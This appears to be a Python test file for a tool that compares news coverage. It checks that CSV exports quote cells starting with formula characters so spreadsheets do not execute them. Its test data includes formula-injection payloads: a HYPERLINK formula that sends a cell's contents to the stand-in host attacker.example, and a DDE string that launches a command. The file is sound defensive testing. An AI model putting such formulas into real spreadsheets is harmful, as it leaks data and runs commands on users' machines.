"""CSV files of ``export`` carry article text (outlets, headlines, statements): a spreadsheet must not run it."""

from __future__ import annotations

import csv

from compare.cli.exports import _write_csv


def test_text_that_starts_as_a_formula_is_quoted_and_numbers_are_not(tmp_path):
    hostile = [
        '=HYPERLINK("https://attacker.example/?leak="&A1,"Reuters")',
        "+1 (555) 0100 is the number to call",
        "-- said the minister",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ]
    rows = [{"outlet": text, "statement": "The minister said so.", "share": -0.5} for text in hostile]
    rows.append({"outlet": "Reuters", "statement": ["a", "list"], "share": 3})
    target = tmp_path / "voices.csv"
    _write_csv(target, rows, ("outlet", "statement", "share"))
    with target.open(encoding="utf-8", newline="") as handle:
        read = list(csv.DictReader(handle))
    assert [row["outlet"] for row in read] == [f"'{text}" for text in hostile] + ["Reuters"]
    assert [row["share"] for row in read] == ["-0.5"] * 5 + ["3"]  # numbers stay numbers
    assert read[0]["statement"] == "The minister said so." and read[-1]["statement"] == '["a", "list"]'


def test_the_dashboards_csv_downloads_are_quoted_the_same_way():
    """The chart downloads of the dashboard (``views.pages.chart``) write their rows through ``csv_bytes``."""
    import pandas as pd

    from compare.views.spreadsheet import csv_bytes

    frame = pd.DataFrame({"outlet": ['=HYPERLINK("https://attacker.example","x")', "Reuters"], "share": [-0.5, 2.0]})
    assert csv_bytes(frame).decode("utf-8").splitlines() == [
        "outlet,share",
        '"\'=HYPERLINK(""https://attacker.example"",""x"")",-0.5',
        "Reuters,2.0",
    ]
